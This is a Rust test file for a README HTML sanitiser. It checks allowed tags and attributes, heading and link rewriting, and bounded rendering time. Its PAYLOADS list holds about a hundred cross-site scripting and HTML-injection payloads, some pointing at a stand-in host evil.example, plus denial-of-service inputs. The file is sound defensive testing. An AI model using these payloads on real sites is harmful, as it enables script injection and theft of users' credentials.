use std::time::{Duration, Instant};

use super::*;
use crate::testing::{Element, elements};

const ALLOWED: [&str; 52] = [
    "a",
    "abbr",
    "acronym",
    "b",
    "bdi",
    "blockquote",
    "br",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "colgroup",
    "data",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "s",
    "samp",
    "small",
    "span",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "ul",
];

/// What must hold of any README, and what a second parser makes of it.
fn assert_safe(markdown: &str) -> Vec<Element> {
    let html = sanitised(markdown);
    let again = sanitiser()
        .url_relative(UrlRelative::PassThrough)
        .clean(&html)
        .to_string();
    assert_eq!(again, html, "reads the same the second time: {markdown:?}");
    let found = elements(&html);
    for element in &found {
        let rare = [
            "rp", "rt", "rtc", "ruby", "strike", "time", "tr", "tt", "u", "var", "wbr",
        ];
        assert!(
            ALLOWED.contains(&element.name.as_str()) || rare.contains(&element.name.as_str()),
            "{element:?} from {markdown:?}"
        );
        for (key, value) in &element.attributes {
            assert_attribute(element, key, value, markdown);
        }
    }
    found
}

fn assert_attribute(element: &Element, key: &str, value: &str, markdown: &str) {
    let is_fine = match key {
        "href" => ["http://", "https://", "#user-content-"]
            .iter()
            .any(|start| value.starts_with(start)),
        "rel" => value == "nofollow noopener noreferrer",
        "id" => value.starts_with("user-content-"),
        "class" => element.name == "code" && value.starts_with("language-") && !value.contains(' '),
        "title" | "lang" | "align" | "start" | "open" | "colspan" | "rowspan" | "width" | "size" => true,
        _ => false,
    };
    assert!(is_fine, "{key}={value:?} on {} from {markdown:?}", element.name);
}

/// Tricks that are known to have worked somewhere.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\" alt=\"a\">",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<img alt=\"`><script>alert(1)</script>\">",
    "<img alt='\"><svg onload=alert(1)>' src=x>",
    "<img title='<img alt=' alt=\"<script>alert(1)</script>\">",
    "<p title='<img alt='>x</p><p title=' onclick=alert(1) x='>y</p><img>",
    "<img src=x:x onerror\n=alert(1)//",
    "<image src=x onerror=alert(1)>",
    "![a](javascript:alert(1))",
    "![\"onerror=\"alert(1)](x)",
    "![a](https://evil.example/track.gif \"t\" onload=alert(1))",
    "![<script>alert(1)</script>](x)",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#10;script:alert(1))",
    "[a](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[a](  javascript:alert(1))",
    "[a](\u{1}javascript:alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](//evil.example/)",
    "[a](\\\\evil.example\\x)",
    "[a](https://x/\"onmouseover=\"alert(1))",
    "[a](https://x 'title\" onclick=\"alert(1)')",
    "[a]: javascript:alert(1)\n\n[a]",
    "<javascript:alert(1)>",
    "<a href=javascript&colon;alert(1)>x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"https://x\" onclick=alert(1) style=\"position:fixed;inset:0\" target=_top ping=//evil.example>x</a>",
    "<a href=\"feed:javascript:alert(1)\">x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a><set attributeName=href to=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src onerror=alert(1)></style></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example/><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object><embed src=//evil.example/x.swf>",
    "<style>body{position:fixed;background:url(//evil.example/x)}</style>",
    "<div style=\"position:fixed;inset:0;z-index:9999;background:red\">x</div>",
    "<div class=\"top skip notice\" id=\"main\">x</div>",
    "<p id=q>x</p><a name=main>y</a>",
    "<form id=document name=cookie></form><img name=getElementById>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<body onload=alert(1)><html onclick=alert(1)>",
    "<input autofocus onfocus=alert(1)><select onfocus=alert(1) autofocus><textarea autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<plaintext><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?><x>",
    "</div></main></body><h1>Not the mirror</h1>",
    "<nav>fake</nav><header>fake</header><footer>fake</footer><main>fake</main>",
    "<bdo dir=rtl>evil</bdo><p dir=rtl>x</p>",
    "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "```rust onload=alert(1) class=top\nx\n```",
    "`<script>alert(1)</script>`",
    "a <b <script>alert(1)</script> c",
    "| <script> | [x](javascript:1) |\n|---|---|\n| <img src=x onerror=alert(1)> | </table><script>alert(1)</script> |",
    "[^<script>]: x\n\ny[^<script>]",
    "[^\" onclick=alert(1)]\n\n[^\" onclick=alert(1)]: x",
    "# <script>alert(1)</script> {#main .top onclick=alert(1)}",
    "- [x] <input type=checkbox onclick=alert(1)>",
    "<table background=javascript:alert(1)><td background=//evil.example/x>x",
    "<p>\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<a href=\"java\u{0}script:alert(1)\">x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "<q cite=javascript:alert(1)>x</q><blockquote cite=data:,x>y</blockquote><del cite=javascript:1>z</del>",
    "<p is=x-y slot=z part=top contenteditable accesskey=x tabindex=1 hidden popover>x</p>",
];

#[test]
fn no_known_trick_gets_through() {
    assert!(PAYLOADS.len() >= 60);
    for payload in PAYLOADS {
        assert_safe(payload);
        assert_safe(&format!("> 1. {payload}\n"));
        assert_safe(&format!(
            "<details><summary>x</summary>\n\n{payload}\n\n</details>\n\nafter **it**"
        ));
        assert_safe(&format!("*a [b {payload} c](https://127.0.0.1/) d*"));
    }
}

#[test]
fn all_tricks_at_once_do_not_help_each_other() {
    assert_safe(&PAYLOADS.join("\n\n"));
    assert_safe(&PAYLOADS.join(" "));
    assert_safe(&PAYLOADS.iter().rev().copied().collect::<Vec<_>>().join("\n"));
}

#[test]
fn an_honest_readme_keeps_its_form() {
    let html = sanitised(
        "# Serde\n\n**bold** *it* ~~gone~~ `code`\n\n- [x] done\n- [ ] open\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n\
         ```rust,no_run\nfn main() {}\n```\n\n[docs](https://127.0.0.1/x?a=1&b=2)\n\nnote[^1]\n\n[^1]: the note\n",
    );
    for part in [
        "<h3 id=\"user-content-serde\">Serde</h3>",
        "<strong>bold</strong> <em>it</em> <del>gone</del> <code>code</code>",
        "<li>☑ done</li>",
        "<li>☐ open</li>",
        "<th>a</th>",
        "<td>2</td>",
        "<pre><code class=\"language-rust\">fn main() {}",
        "<a href=\"https://127.0.0.1/x?a=1&amp;b=2\" rel=\"nofollow noopener noreferrer\">docs</a>",
        "<a href=\"#user-content-1\" rel=\"nofollow noopener noreferrer\">1</a>",
        "<div id=\"user-content-1\">",
    ] {
        assert!(html.contains(part), "{part} is not in {html}");
    }
}

#[test]
fn images_become_their_text_and_links_of_images_stay_links() {
    let link = "<a href=\"https://127.0.0.1/\" rel=\"nofollow noopener noreferrer\">";
    assert!(sanitised("[![Build](https://127.0.0.1/b.svg)](https://127.0.0.1/)").contains(&format!("{link}Build</a>")));
    assert!(sanitised("[![](https://127.0.0.1/b.svg)](https://127.0.0.1/)").contains(&format!("{link}image</a>")));
    assert!(sanitised("<a href=\"https://127.0.0.1/\"><img src=x alt='A & B'></a>").contains("A &amp; B </a>"));
    assert_eq!(sanitised("x ![](y.png) z").trim(), "<p>x  z</p>");
}

#[test]
fn headings_go_down_and_are_named_once() {
    let html = sanitised("# One Two!\n## One two\n###### Six\n<h2>HTML</h2>\n");
    let names: Vec<(String, Option<String>)> = elements(&html)
        .into_iter()
        .map(|element| (element.name.clone(), element.get("id").map(str::to_owned)))
        .collect();
    let expected = [
        ("h3", Some("user-content-one-two")),
        ("h4", Some("user-content-one-two-1")),
        ("h6", Some("user-content-six")),
        ("h4", None),
    ];
    let expected: Vec<_> = expected
        .map(|(name, id)| (name.to_owned(), id.map(str::to_owned)))
        .into();
    assert_eq!(names, expected);
}

#[test]
fn characters_that_reverse_text_are_dropped_wherever_they_come_from() {
    for text in [
        "a\u{202E}b",
        "a&#x202E;b",
        "<b title='a&#x202e;b'>a&#8238;b</b>",
        "`a\u{2066}b`",
    ] {
        let html = sanitised(text);
        assert!(html.contains("ab") && html.find(is_hidden).is_none(), "{html:?}");
    }
}

#[test]
fn a_long_readme_is_cut_between_characters() {
    let html = sanitised(&"é".repeat(MAX_README_BYTES));
    assert_eq!(html.chars().filter(|c| *c == 'é').count(), MAX_README_BYTES / 2);
}

/// A generous bound: an unbounded algorithm takes minutes for these.
#[test]
fn no_readme_takes_for_ever() {
    let full = |piece: &str| piece.repeat(MAX_README_BYTES / piece.len());
    let eighth = |piece: &str| piece.repeat(MAX_README_BYTES / 8 / piece.len());
    let numbered: String = (0..15_000).map(|n| format!("<b a={n}>x\n\n")).collect();
    let fonts: String = (0..400).map(|n| format!("<font color=a{n}>")).collect();
    let cases = [
        // These cost the square of their length without the guards in `raw_html`.
        full("<div>"),
        format!("<table>{}", full("a\n\n")),
        format!("{}\n\n{}", "<div>".repeat(3_999), full("a\n\n")),
        "<div>".repeat(20_000) + &"</div>".repeat(20_000),
        numbered,
        fonts + &eighth("x\n\n"),
        // These are known to have been trouble for one parser of Markdown or another.
        full(">"),
        full("- "),
        full("["),
        full("![a]("),
        full("**a *b "),
        full("|a"),
        eighth("* a\n"),
        eighth("<b>"),
        eighth("<a href=x>"),
        eighth("<img alt=x>"),
        eighth("<svg>"),
        eighth("`a``b```c"),
        eighth("[^a]"),
        eighth("# a\n"),
    ];
    for text in cases {
        let start = Instant::now();
        elements(&sanitised(&text));
        let took = start.elapsed();
        assert!(
            took < Duration::from_secs(30),
            "{:?}… took {took:?}",
            &text[..12.min(text.len())]
        );
    }
}

#[test]
fn too_much_html_becomes_text() {
    let html = sanitised(&format!("{}\n\nthe **end**", "<i>word</i> ".repeat(5_000)));
    assert!(html.contains("&lt;i&gt;") && html.contains("the <strong>end</strong>"));
    assert_eq!(elements(&html).iter().filter(|element| element.name == "i").count(), 0);
}
